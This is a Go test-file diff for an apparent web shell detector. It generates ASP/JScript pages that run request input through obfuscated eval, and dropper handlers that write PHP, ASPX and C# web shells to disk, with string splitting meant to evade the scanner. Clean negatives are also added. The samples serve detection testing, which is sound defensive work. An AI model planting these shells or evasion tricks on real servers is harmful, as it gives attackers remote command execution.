@@ -246,6 +246,8 @@ func TestHarnessTechniques(t *testing.T) {
 	vs = append(vs, gadgetPages(r)...)
 	vs = append(vs, packedPages(r)...)
 	vs = append(vs, fileManagerPages(r)...)
+	vs = append(vs, jscriptPages(r)...)
+	vs = append(vs, dropperPages(r)...)
 	a := New()
 	type tally struct{ found, total int }
 	by := map[string]*tally{}
@@ -459,6 +461,89 @@ func TestFileManagerNegatives(t *testing.T) {
 		"/var/www/html/upload.php": "<?php\n$dir = __DIR__ . '/uploads/';\n$n = basename($_FILES['f']['name']);\nif (preg_match('/\\.(jpe?g|png)$/i', $n)) move_uploaded_file($_FILES['f']['tmp_name'], $dir . $n);\n",
 		"/var/www/html/setup.php":  "<?php\n$cfg = __DIR__ . '/config.php';\nfile_put_contents($cfg, \"<?php return \" . var_export(['db' => 'app'], true) . ';');\nchmod($cfg, 0640);\n",
 		"/var/www/html/notes.php":  "<?php\nif (isset($_POST['t'])) file_put_contents(__DIR__ . '/data/notes.txt', $_POST['t']);\nchmod(__DIR__ . '/data/notes.txt', octdec($_POST['mode'] ?? '640'));\necho htmlspecialchars(file_get_contents(__DIR__ . '/data/notes.txt'));\n",
+	} {
+		if fs := New().Analyze(p, []byte(page)); len(fs) > 0 {
+			t.Errorf("%s:%s", p, dump(fs))
+		}
+	}
+}
+
+// jscriptPages: classic ASP and ASP.NET JScript pages reaching eval through expressions.
+func jscriptPages(r *rand.Rand) []techVariant {
+	reqs := []string{`Request("c")`, `Request.Form("c")`, `Request.QueryString("c")`, `Request.Item["c"]`, `Request["c"]`}
+	shapes := []func(req string) string{
+		func(req string) string {
+			return "function _(k){ if(k){ return " + req + " + '' } else { return eval\n} }\n_()(_(!-''));"
+		},
+		func(req string) string { return "var v = " + req + ";\n(0, eval)(v);" },
+		func(req string) string { return "this[\"ev\" + \"al\"](" + req + " + '');" },
+		func(req string) string { return "var e = eval;\ne(" + req + ");" },
+		func(req string) string { return "Response.Write(eval(" + req + ", \"unsafe\"));" },
+		func(req string) string { return "this.eval(String(" + req + "));" },
+		func(req string) string {
+			return "function getRunner() { return eval; }\nvar s = " + req + ";\ngetRunner()(s);"
+		},
+	}
+	var out []techVariant
+	for n := 0; n < 28; n++ {
+		req := reqs[r.Intn(len(reqs))]
+		code := shapes[n%len(shapes)](req)
+		if r.Intn(2) == 0 {
+			out = append(out, techVariant{"jscript-eval-expression", "/var/www/iis/upload/img/_.asp", "<%@LANGUAGE=\"javascript\"%>\n<%" + code + "%>\n"})
+		} else {
+			out = append(out, techVariant{"jscript-eval-expression", "/inetpub/wwwroot/upload/q.aspx", "<%@ Page Language=\"JScript\" %>\n<%" + code + "%>\n"})
+		}
+	}
+	return out
+}
+
+// dropperPages: handlers and pages that write out a page of their own that is a web shell.
+func dropperPages(r *rand.Rand) []techVariant {
+	split := func(s string) string {
+		// the page as a C# or Java string, cut in two and joined
+		q := strings.ReplaceAll(s, `"`, `\"`)
+		h := len(q) / 2
+		for h > 0 && q[h-1] == '\\' {
+			h--
+		}
+		return "\"" + q[:h] + "\" + \"" + q[h:] + "\""
+	}
+	inner := []struct{ page, target string }{
+		{`<%@ Page Language="Jscript"%><%Response.Write(eval(Request.Item["z"],"unsafe"));%>`, "query.aspx"},
+		{`<%@ Page Language="C#"%><%System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]);%>`, "img/info.aspx"},
+		{`<%eval request("x")%>`, "x.asp"},
+	}
+	var out []techVariant
+	for n := 0; n < 18; n++ {
+		in := inner[r.Intn(len(inner))]
+		page, target := in.page, in.target
+		var code string
+		switch n % 3 {
+		case 0:
+			code = "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System; using System.Web; using System.IO;\npublic class H : IHttpHandler {\n  public void ProcessRequest(HttpContext context) {\n    string show = " + split(page) + ";\n    StreamWriter f = File.CreateText(context.Server.MapPath(\"" + target + "\"));\n    f.Write(show);\n    f.Close();\n  }\n  public bool IsReusable { get { return false; } }\n}\n"
+			out = append(out, techVariant{"dropper", "/var/www/app/upload/xx.ashx", code})
+		case 1:
+			code = "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.IO\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n  File.WriteAllText(Server.MapPath(\"" + target + "\"), " + split(page) + ");\n}\n</script>\n"
+			out = append(out, techVariant{"dropper", "/var/www/app/setup.aspx", code})
+		default:
+			php := []string{`<?php @eval($_POST["p"]); ?>`, `<?php system($_GET["c"]); ?>`, `<?= passthru($_REQUEST["x"]) ?>`}[r.Intn(3)]
+			q := strings.ReplaceAll(php, `'`, `\'`)
+			// cut where no name is split: the page gate reads names whole
+			h := strings.Index(q, "(") + 1
+			code = "<?php\n$n = __DIR__ . '/wp-cache.php';\n$b = '" + q[:h] + "' . '" + q[h:] + "';\nfile_put_contents($n, $b);\necho 'ok';\n"
+			out = append(out, techVariant{"dropper", "/var/www/html/up.php", code})
+		}
+	}
+	return out
+}
+
+// Clean pages that write pages or name eval without a request: a handler writing a static
+// page, an installer writing its configuration, JScript evaluating a constant.
+func TestDropperAndJScriptNegatives(t *testing.T) {
+	for p, page := range map[string]string{
+		"/var/www/app/gen.ashx":           "<%@ WebHandler Language=\"C#\" Class=\"G\" %>\nusing System.IO; using System.Web;\npublic class G : IHttpHandler {\n  public void ProcessRequest(HttpContext c) {\n    File.WriteAllText(c.Server.MapPath(\"status.aspx\"), \"<%@ Page Language=\\\"C#\\\" %><html><body><%= DateTime.Now %></body></html>\");\n  }\n  public bool IsReusable { get { return true; } }\n}\n",
+		"/var/www/html/install/step3.php": "<?php\n$cfg = \"<?php\\nreturn ['db' => '\" . addslashes($_POST['db']) . \"'];\\n\";\nfile_put_contents(__DIR__ . '/../config.php', $cfg);\n",
+		"/var/www/iis/json.asp":           "<%@LANGUAGE=\"javascript\"%>\n<% var e = eval; var o = e('(' + '{\"a\":1}' + ')'); Response.Write(Server.HTMLEncode(Request(\"q\") + o.a)); %>\n",
 	} {
 		if fs := New().Analyze(p, []byte(page)); len(fs) > 0 {
 			t.Errorf("%s:%s", p, dump(fs))
